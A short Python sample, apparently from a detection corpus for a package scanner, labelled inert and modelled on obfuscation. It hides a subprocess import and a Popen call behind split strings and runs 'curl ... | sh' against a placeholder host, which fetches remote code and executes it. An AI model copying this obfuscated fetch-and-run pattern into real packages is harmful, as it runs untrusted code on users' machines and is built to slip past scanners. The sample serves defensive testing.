# pkgguard corpus 296 (indirection), modelled on [obfuscation]; inert, never run.
import importlib

_mod = importlib.import_module("sub" + "process")
_call = getattr(_mod, "Po" + "pen")
_call(["sh", "-c", "curl -s https://cdn.example/x | sh"])
